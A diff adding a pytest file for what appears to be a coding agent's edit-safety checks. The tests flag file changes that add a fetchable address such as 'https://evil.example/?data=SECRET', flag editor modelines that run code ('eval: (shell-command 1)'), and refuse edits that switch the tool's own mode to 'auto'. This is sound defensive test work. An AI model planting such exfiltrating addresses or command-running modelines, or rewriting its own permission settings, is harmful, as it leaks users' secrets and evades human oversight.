@@ -1,0 +1,101 @@
+"""What a change puts into a file decides too: addresses that would be fetched are asked about, our settings refused."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from conduit.edits.caution import cautions, diff_with_remarks, refuse_own_settings
+from conduit.edits.edit import FileChange
+from conduit.errors import PermissionDenied
+
+EVIL = "https://evil.example/?data=SECRET"
+
+
+def change(name: str, before: str | None, after: str | None, moved: str = "") -> FileChange:
+    target = Path("/project", moved) if moved else None
+    return FileChange(Path("/project", name), name, before, after, moved_to=target, moved_name=moved)
+
+
+def with_schema(address: str, more: str = "") -> str:
+    return f'{{"$schema": "{address}"{more}}}\n'
+
+
+def test_an_address_that_a_change_adds_is_said() -> None:
+    said = (
+        "a.json names https://evil.example/?data=SECRET, which causes a network request when an editor opens the file."
+    )
+    assert cautions([change("a.json", None, with_schema(EVIL))]) == said
+    assert cautions([change("a.json", "{}\n", with_schema(EVIL))]) == said
+    assert cautions([change("a.json", with_schema("https://good.example/s"), with_schema(EVIL))]) == said
+
+
+def test_an_address_that_was_there_is_not_said_again() -> None:
+    known = with_schema("https://good.example/s")
+    assert cautions([change("a.json", known, with_schema("https://good.example/s", ', "a": 1'))]) == ""
+    assert cautions([change("a.json", known, None)]) == ""
+    assert cautions([change("a.json", known, known, "b.json")]) == ""
+
+
+def test_a_name_that_makes_a_text_one_that_is_read_is_said() -> None:
+    text = f"a = 1\n$schema: {EVIL}\n"
+    assert cautions([change("a.txt", text, text)]) == ""
+    assert "network request" in cautions([change("a.txt", text, text, "a.yaml")])
+
+
+def test_the_name_and_the_address_are_both_said() -> None:
+    said = cautions([change(".vscode/tasks.json", None, with_schema(EVIL)), change("a.py", "", "x\n")])
+    assert said.startswith(".vscode/tasks.json is editor settings")
+    assert said.endswith("a network request when an editor opens the file.")
+
+
+def test_a_diff_says_which_files_run() -> None:
+    shown = diff_with_remarks([change("tests/conftest.py", "a\n", "b\n"), change("a.py", "a\n", "b\n")])
+    assert shown.startswith("# tests/conftest.py runs with the tests.\n--- a/tests/conftest.py\n")
+    assert shown.count("# ") == 1
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "# vim: set foldexpr=x() :",
+        "/* vi:ts=4 */",
+        "ex: set x",
+        "-*- mode: x; eval: (y) -*-",
+        ";; eval: (shell-command 1)",
+    ],
+)
+def test_a_diff_says_that_an_editor_obeys_a_line(line: str) -> None:
+    remark = "# a.py gets a modeline, which an editor obeys when it opens the file.\n"
+    assert diff_with_remarks([change("a.py", "x\n", f"x\n{line}\n")]).startswith(remark)
+    assert remark not in diff_with_remarks([change("a.py", f"x\n{line}\n", f"y\n{line}\n")])
+    plain = "# -*- coding: utf-8 -*-\nprevim: 1\ndef retrieval(): eval(x)\n"
+    assert "modeline" not in diff_with_remarks([change("a.py", "x\n", plain)])
+
+
+@pytest.mark.parametrize(
+    ("name", "before", "after"),
+    [
+        (".vscode/settings.json", None, '{"conduit.mode": "auto"}'),
+        (".vscode/settings.json", "{}", '{"\\u0063onduit.mode": "auto"}'),
+        (".vscode/settings.json", '{"conduit.mode":\n"ask"}', '{"conduit.mode":\n"auto"}'),
+        ("team.code-workspace", '{"settings": {"Conduit.mode": "ask"}}', "{}"),
+        (".zed/settings.json", "{}", '{"lsp": {"conduit": {"settings": {"mode": "auto"}}}}'),
+        (".helix/languages.toml", "", "[language-server.conduit.config]\nmode = 'auto'\n"),
+        (".nvim.lua", "", "require('conduit').setup { mode = 'auto' }\n"),
+        (".dir-locals.el", "", '((nil . ((eglot-workspace-configuration . (:conduit (:mode "auto"))))))'),
+    ],
+)
+def test_settings_of_ours_among_those_of_an_editor_are_never_written(name: str, before: str | None, after: str) -> None:
+    with pytest.raises(PermissionDenied, match="settings of Conduit"):
+        refuse_own_settings([change(name, before, after)])
+
+
+def test_other_settings_of_an_editor_are_left_to_the_question() -> None:
+    refuse_own_settings(
+        [
+            change(".vscode/settings.json", "{}", '{"python.analysis.extraPaths": ["src/conduit"], "a": "conduit-ls"}'),
+            change("src/conduit/mode.py", "", "conduit.mode = 'auto'\n"),
+        ]
+    )
